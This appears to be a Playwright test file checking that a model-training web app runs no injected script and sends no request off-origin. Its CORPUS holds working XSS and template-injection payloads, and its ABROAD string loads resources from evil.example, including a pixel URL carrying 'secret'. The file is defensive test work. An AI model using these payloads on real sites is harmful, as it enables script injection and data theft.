@@ -1,0 +1,170 @@
+"""Nothing leaves the origin, and nothing that somebody wrote is ever run."""
+
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.ui.browser.conftest import Visit
+from tests.ui.browser.people import Visitor
+from tests.ui.browser.serving import InLine, Served, serve
+from ui.asking import Ask
+
+pytestmark = pytest.mark.ui
+
+MARK = "window.__xss = true"
+# One for each way that markup, a template or Markdown has been made to run something.
+CORPUS = (
+    f"<script>{MARK}</script>",
+    f"</script><script>{MARK}</script>",
+    f"<img src=x onerror='{MARK}'>",
+    f"<svg onload='{MARK}'><circle/></svg>",
+    f"<details open ontoggle='{MARK}'>x</details>",
+    f"<iframe srcdoc='<script>parent.__xss = true</script>'></iframe>",
+    f"<iframe src='javascript:parent.{MARK}'></iframe>",
+    f"[a link](javascript:{MARK.replace(' ', '')})",
+    f"![x](x' onerror='{MARK})",
+    f"<a href='javascript:{MARK}'>a link</a>",
+    f"<form action='javascript:{MARK}'><button>press</button></form>",
+    "${(() => { " + MARK + " })()}",
+    "{{constructor.constructor('" + MARK + "')()}}",
+    "{{#with this}}{{{lookup this 'x'}}}{{/with}}",
+    f"`</code><img src=x onerror='{MARK}'>`",
+    f"$$\\href{{javascript:{MARK}}}{{x}}$$",
+    f"<style>@import 'https://evil.example/a.css';</style><b onmouseover='{MARK}'>b</b>",
+    f"\u202e\u0000<scr\u0000ipt>{MARK}</scr\u0000ipt>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror='{MARK}'></style></mglyph></table>",
+)
+ABROAD = (
+    "![x](https://evil.example/pixel.png?q=secret) "
+    "<img src='http://evil.example/pixel.png'> "
+    "<link rel=stylesheet href='https://evil.example/a.css'> "
+    "[a link](https://evil.example/) "
+    "<video src='https://evil.example/v.mp4' autoplay></video> "
+    "<div style='background:url(https://evil.example/b.png)'>b</div>"
+)
+
+
+class Hostile(InLine):
+    """Answers with the corpus, a piece for each seed, and asks for things abroad."""
+
+    def answer(self, ask: Ask) -> str:
+        """As `FakeEngine.answer`."""
+        return f"{CORPUS[ask.seed % len(CORPUS)]} {ABROAD} {ask.adapter[::-1]} {ask.seed}"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """An app whose adapters are hostile."""
+    with serve(Hostile(words=60), tmp_path_factory.mktemp("hostile")) as served:
+        yield served
+
+
+def assert_untouched(me: Visitor) -> None:
+    assert me.page.evaluate("window.__xss") is None
+    assert me.heard.dialogs == []
+
+
+def stays_home(me: Visitor) -> None:
+    """Every request that was let out went to the server the page came from."""
+    home = urlsplit(me.served.url).netloc
+    out = [r for r in me.heard.requests if r not in me.heard.blocked]
+    abroad = [r for r in out if urlsplit(r).scheme in ("http", "https", "ws", "wss")]
+    assert {urlsplit(r).netloc for r in abroad} == {home}
+
+
+def look_at_everything(me: Visitor) -> None:
+    """Hover and move through a tab, so that what waits for it would run."""
+    me.page.mouse.move(300, 300)
+    me.page.mouse.move(500, 420)
+    me.page.wait_for_timeout(250)
+
+
+def test_prompts_and_answers_run_nothing_in_any_tab(visit: Visit, hostile: Served) -> None:
+    me = visit(hostile)
+    # What the policy held back is told in the console, and meant to be.
+    me.heard.expected += ["Content Security Policy", "violates", "ERR_BLOCKED", "Failed to load"]
+    for number, piece in enumerate(CORPUS):
+        piece = piece.replace("\u0000", "")  # no browser lets anybody type it
+        me.chat(piece)
+        if number % 6 == 0:
+            me.new_dialogue()
+    look_at_everything(me)
+    assert_untouched(me)
+    me.tab("Compare")
+    for piece in CORPUS[::3]:
+        me.at("#cmp-box textarea").fill(piece.replace("\u0000", ""))
+        me.at("#cmp-next").click()
+        expect(me.at("#cmp-a")).to_be_enabled()
+        me.at("#cmp-a").click()
+        expect(me.at("#cmp-status")).to_contain_text("Saved")
+    look_at_everything(me)
+    assert_untouched(me)
+    me.tab("Rank")
+    for _ in range(3):
+        me.wait_for_ranking()
+        count = me.at(".rk-card").count()
+        me.press(*"abcdefghi"[: count - 1], "Enter")
+        expect(me.at(".rk-status")).to_contain_text("Saved")
+    look_at_everything(me)
+    for tab in ("Votes", "Retrain", "Runs", "Chat"):
+        me.tab(tab)
+        look_at_everything(me)
+    assert_untouched(me)
+    stays_home(me)
+    me.page.evaluate("window.__violations = []")  # the blocked pictures
+
+
+def test_the_check_would_see_what_ran(visit: Visit, hostile: Served) -> None:
+    """The same corpus in a page without protection runs: else the test above proves nothing."""
+    me = visit(hostile)
+    bare = me.context.new_page()
+    bare.set_content("".join(CORPUS[:3]))
+    bare.wait_for_timeout(200)
+    assert bare.evaluate("window.__xss") is True
+    bare.close()
+    me.heard.expected += ["net::ERR", "Failed to load"]
+
+
+def test_a_runs_own_files_run_nothing(visit: Visit, hostile: Served, tmp_path: Path) -> None:
+    import json
+
+    run = hostile.studio.runs_dir / "evil"
+    (run / "ppo").mkdir(parents=True, exist_ok=True)
+    (run / "recipe.yaml").write_text(f'name: "evil"\nbase: {{model: "{CORPUS[2]}"}}\n')
+    (run / "status.json").write_text(json.dumps({"state": CORPUS[2], "stage": CORPUS[0]}))
+    (run / "summary.json").write_text(json.dumps({"seconds": {CORPUS[2]: 1}}))
+    lines = [{"step": 1, "prompt": p, "response": p, "score": 1.0} for p in CORPUS]
+    (run / "ppo" / "samples.jsonl").write_text("\n".join(map(json.dumps, lines)) + "\n")
+    (run / "ppo" / "metrics.jsonl").write_text(json.dumps({"step": 1, CORPUS[2]: 1.0}) + "\n")
+    (run / "report.html").write_text(f"<script>parent.{MARK}; {MARK}</script><p>{CORPUS[2]}</p>")
+    me = visit(hostile, tab="Runs")
+    me.heard.expected += ["Content Security Policy", "violates", "ERR_BLOCKED", "Failed to load"]
+    expect(me.at("#runs-list")).to_contain_text("evil")
+    me.at("#runs-list").get_by_text("evil").first.click()
+    for part in ("Results", "Answers", "Report", "Curves"):
+        me.page.get_by_role("tab", name=part, exact=True).click()
+        look_at_everything(me)
+    assert_untouched(me)
+    stays_home(me)
+    me.page.evaluate("window.__violations = []")
+
+
+def test_a_tour_of_the_app_leaves_the_origin_alone_and_breaks_no_policy(
+    visit: Visit, fake: Served
+) -> None:
+    """In normal use there is nothing to block, and the console stays silent (`visit` checks)."""
+    me = visit(fake)
+    me.chat("Hello.")
+    me.tab("Compare")
+    me.ask_both("Which one?")
+    me.press("1")
+    me.tab("Rank")
+    me.wait_for_ranking()
+    for tab in ("Votes", "Retrain", "Runs"):
+        me.tab(tab)
+        look_at_everything(me)
+    assert me.heard.blocked == []
+    stays_home(me)
